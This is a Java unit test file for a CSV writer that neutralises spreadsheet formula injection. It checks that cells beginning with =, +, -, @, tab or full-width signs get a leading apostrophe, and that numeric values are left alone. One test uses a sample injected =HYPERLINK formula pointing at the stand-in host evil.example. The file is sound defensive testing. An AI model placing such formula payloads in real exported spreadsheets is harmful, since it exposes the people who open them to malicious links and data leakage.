package org.gvclab.core.base;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import org.junit.jupiter.api.Test;

class SpreadsheetCsvTest {

    private static String line(String... cells) {
        StringWriter w = new StringWriter();
        SpreadsheetCsv csv = new SpreadsheetCsv(w);
        for (String c : cells) {
            csv.text(c);
        }
        csv.endRow();
        return w.toString();
    }

    @Test
    void cells_a_spreadsheet_would_run_as_formulas_get_a_leading_apostrophe() {
        assertThat(line("=HYPERLINK(\"http://evil.example/?x\",\"click\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"click\"\")\"\r\n");
        assertThat(line("=1+1", "@SUM(1)", "+cmd", "-2+3", "\tx", "\rx", "＝1")).isEqualTo(
                "'=1+1,'@SUM(1),'+cmd,'-2+3,'\tx,\"'\rx\",'＝1\r\n");
    }

    @Test
    void numbers_stay_numbers_whether_written_as_numbers_or_as_numeric_text() {
        assertThat(line("-12.5", "+3", "1e-3", "CHN", "")).isEqualTo("-12.5,+3,1e-3,CHN,\r\n");
        StringWriter w = new StringWriter();
        new SpreadsheetCsv(w).number(-0.25).number(42).number(Double.NaN).endRow();
        assertThat(w.toString()).isEqualTo("-0.25,42,\r\n");
    }

    @Test
    void the_rule_covers_full_width_forms_and_leaves_ordinary_text_alone() {
        assertThat(SpreadsheetCsv.formulaLike("＋1")).isTrue();
        assertThat(SpreadsheetCsv.formulaLike("Zhuji - socks")).isFalse();
        assertThat(SpreadsheetCsv.neutralised("诸暨")).isEqualTo("诸暨");
    }
}
